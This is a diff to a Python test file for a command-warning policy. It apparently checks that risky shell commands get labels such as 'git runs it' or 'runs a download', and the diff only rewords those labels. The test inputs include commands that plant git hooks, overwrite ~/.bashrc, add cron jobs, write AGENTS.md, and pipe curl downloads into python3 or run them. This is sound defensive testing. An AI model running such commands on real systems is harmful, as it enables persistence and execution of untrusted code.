@@ -1,4 +1,4 @@
-"""The card says when a command writes what other programs obey, or runs what it downloads."""
+"""The card says when a command writes what other programs obey, or runs a download."""
 
 import pytest
 
@@ -8,7 +8,7 @@ from blufio_tui.core.policy.command_notes import command_notes
 from blufio_tui.core.policy.wording import capability_lines
 from blufio_tui.core.shell.command_line import exec_target
 
-GIT, SHELL, CRON, UNSEEN = "git runs it", "your shell runs it", "cron runs it", "runs what it downloads"
+GIT, SHELL, CRON, UNSEEN = "git runs it", "your shell runs it", "cron runs it", "runs a download"
 NOTED = {
     "echo x > .git/hooks/pre-commit": GIT,
     "echo x >> ~/.bashrc": SHELL,
@@ -33,9 +33,9 @@ NOTED = {
     "wget -O ~/.bashrc https://e.com/x": SHELL,
     "curl --output=.git/hooks/pre-push https://e.com/x": GIT,
     "sort -o ~/.bashrc x": SHELL,
-    "git config core.hooksPath /tmp/x": "setting of git",
-    "git config --global core.pager 'sh x'": "setting of git",
-    "git config alias.st '!sh x'": "setting of git",
+    "git config core.hooksPath /tmp/x": "git setting",
+    "git config --global core.pager 'sh x'": "git setting",
+    "git config alias.st '!sh x'": "git setting",
     "crontab x": CRON,
     "echo '* * * * * x' | crontab -": CRON,
     "at now": "runs later",
@@ -50,8 +50,8 @@ NOTED = {
     "curl https://e.com/x | python3 -": UNSEEN,
     "curl -o x https://e.com/x && chmod +x x && ./x": UNSEEN,
     "sh -c 'echo x | tee ~/.bashrc'": SHELL,
-    "echo x > .envrc": "obeys it",
-    "echo x > AGENTS.md": "agents obey it",
+    "echo x > .envrc": "acts on it",
+    "echo x > AGENTS.md": "agents follow it",
 }
 
 
@@ -88,7 +88,7 @@ def test_an_ordinary_command_has_no_note(command: str) -> None:
         (Kind.FS_WRITE, "~", "all your files"),
         (Kind.FS_WRITE, "${PROJECT}/.git/hooks", "git runs it"),
         (Kind.FS_WRITE, "${PROJECT}/package.json", "build and test tools"),
-        (Kind.FS_WRITE, "/etc", "the system obeys it"),
+        (Kind.FS_WRITE, "/etc", "the system acts on it"),
         (Kind.FS_READ, "~/.ssh", "credentials"),
         (Kind.FS_READ, "${PROJECT}/.env", "credentials"),
         (Kind.FS_READ, "${PROJECT}/package.json", ""),
